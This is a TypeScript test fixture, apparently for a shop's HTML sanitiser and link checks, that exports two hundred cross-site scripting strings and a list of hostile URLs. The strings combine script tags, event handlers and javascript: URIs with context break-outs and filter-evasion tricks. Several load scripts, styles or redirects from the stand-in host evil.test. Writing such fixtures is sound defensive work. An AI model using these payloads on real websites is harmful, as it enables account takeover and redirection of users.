// Texts that run a script or load a foreign resource on a page that renders them as markup. They call `pwned()` and
// request `evil.test`.

const call = "pwned()";

/** Markup that runs script as soon as a browser parses it. */
const active = [
  `<script>${call}</script>`,
  `<script src="//evil.test/x.js"></script>`,
  `<script type=module>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<img src="x" onerror="${call}"/>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="//evil.test/x.swf">`,
  `<base href="//evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.test/">`,
  `<link rel=stylesheet href="//evil.test/x.css">`,
  `<style>@import "//evil.test/x.css";</style>`,
  `<p style="background:url(//evil.test/x.png)" onmouseover=${call}>x</p>`,
  `<a href="javascript:${call}">x</a>`,
  `<form action="//evil.test/"><button>x</button></form>`,
] as const;

/** Places that a text may break out of before its markup starts. */
const contexts: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `"'><b>${markup}`,
  (markup) => `</script></style></title></textarea></noscript>${markup}`,
  (markup) => `-->]]>\u2028*/;\n${markup}<!--`,
  (markup) => `<p><p <strong ${markup}</strong>`,
  (markup) => markup.replace(/<(\w)/, "<\u000b$1").replaceAll(" on", "\u000con"),
  (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&#62;"),
  (markup) => markup.toUpperCase().replaceAll("PWNED()", call).replaceAll(" ", "/"),
];

/** Two hundred texts, all different. */
export const hostileTexts: readonly string[] = contexts.flatMap((inContext) => active.map(inContext));

/** URLs that leave the shop or run a script when they become a link. */
export const hostileUrls: readonly string[] = [
  "javascript:pwned()",
  "JaVaScRiPt:pwned()",
  " javascript:pwned()",
  "java\tscript:pwned()",
  "\u0001javascript:pwned()",
  "javascript://%0apwned()",
  "vbscript:pwned()",
  "data:text/html,<script>pwned()</script>",
  "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
  "blob:https://evil.test/1",
  "http://evil.test/",
  "https://evil.test/",
  "//evil.test/",
  "///evil.test/",
  "////evil.test/",
  "/\\evil.test/",
  "\\\\evil.test/",
  "\\/evil.test/",
  "/\t/evil.test/",
  "/\n/evil.test/",
  "\t//evil.test/",
  "/..//evil.test/",
  "/./\\evil.test/",
  "https:evil.test",
  "https:/evil.test",
  "https:\\\\evil.test",
  "mailto:x@evil.test",
  "ftp://evil.test/",
  '/products"onmouseover="pwned()',
  "/products'><script>pwned()</script>",
];
